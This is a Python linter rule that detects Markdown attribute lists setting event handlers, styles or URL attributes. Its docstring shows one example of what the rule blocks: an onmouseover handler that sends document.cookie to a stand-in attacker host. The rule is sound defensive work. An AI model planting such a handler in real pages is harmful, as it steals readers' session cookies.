"""An attribute list (`{: ...}`) that sets an event handler, a style or a URL.

## What it does
Finds attribute lists — `{: key=value }` or `{key=value}` after a paragraph, heading, table
cell, emphasis, link, image or code span, and in a code fence's info string — that set an
event handler (`onclick`, `onmouseover`, any `on…`), `style`, or an attribute that holds a
URL or markup (`href`, `src`, `srcset`, `srcdoc`, `action`, `formaction`, `xlink:href`, `data`,
`poster`, `background`, `ping`). Ids (`#anchor`), classes (`.note`) and other plain attributes
are fine. Code spans and code blocks are ignored.

## Why is this bad?
The site enables Python-Markdown's `attr_list` extension, which copies these attributes onto
the element: `{onclick=...}` runs script when a reader clicks the paragraph, and
`{: href=javascript:...}` replaces a link's address after the link was checked. The linter's
own parser shows such lists as plain text, so nothing else would notice them.

## Example
```markdown
Checkout failed for 21% of orders.
{: onmouseover="fetch('//evil.example/?'+document.cookie)" }
```

## Use instead
```markdown
Checkout failed for 21% of orders.
{: #checkout-failure-rate }
```
"""

from __future__ import annotations

import re

from linter.rules._inline import literally_in_source, text_runs
from linter.rules.base import Violation, define
from linter.safe_text import safe_excerpt

# Python-Markdown's attr_list syntax (markdown.extensions.attr_list): the colon is optional.
_ATTR_LIST = re.compile(r"\{:?[ ]*([^}\n ][^}\n]*)[ ]*\}")
# One entry: key="v", key='v', key=v, .class, #id, or a bare word (which sets word="word").
_ENTRY = re.compile(r"""([^\s=}]+)\s*=\s*(?:"[^"]*"|'[^']*'|[^\s}]*)|([^\s=}]+)""")
_URL_OR_MARKUP = frozenset({
    "style", "href", "src", "srcset", "srcdoc", "action", "formaction", "xlink:href", "data",
    "poster", "background", "ping",
})


def dangerous_keys(attributes: str) -> list[str]:
    """The keys in an attribute list's body that set handlers, styles or URLs."""
    found = []
    for match in _ENTRY.finditer(attributes):
        key = (match.group(1) or match.group(2) or "").lower()
        if key.startswith((".", "#")):
            continue
        if (key.startswith("on") and len(key) > 2) or key in _URL_OR_MARKUP:
            found.append(key)
    return found


def _lists_in(text: str):
    for match in _ATTR_LIST.finditer(text):
        keys = dangerous_keys(match.group(1))
        if keys:
            yield match, keys


def _message(keys: list[str], written: str) -> str:
    names = ", ".join(f"'{safe_excerpt(key, 30)}'" for key in keys[:3])
    return (f"attribute list sets {names}: '{safe_excerpt(written, 60)}'; attribute lists may set "
            f"ids and classes, not event handlers, styles or URLs")


def check(document, context):
    if "{" not in document.body_text:
        return  # every attribute list, in text or a fence's info string, is written with a '{'
    found = []
    for parent, line, text in text_runs(document):
        if "{" not in text:
            continue
        for match, keys in _lists_in(text):
            if literally_in_source(parent, match.group(0)[:2]):
                found.append((line + text.count("\n", 0, match.start()), match.group(0), keys))
    for token in document.tokens:
        if token.type == "fence" and token.map and "{" in token.info:
            for match, keys in _lists_in(token.info):
                found.append((token.map[0] + 1, match.group(0), keys))
    for line, written, keys in sorted(found, key=lambda item: item[0]):
        yield Violation(line, document.column_of(line, written[:20]), _message(keys, written))


RULE = define(__doc__, "PM805", "attr-list-handler", "error", check, suppressible=False, blocks_publication=True)
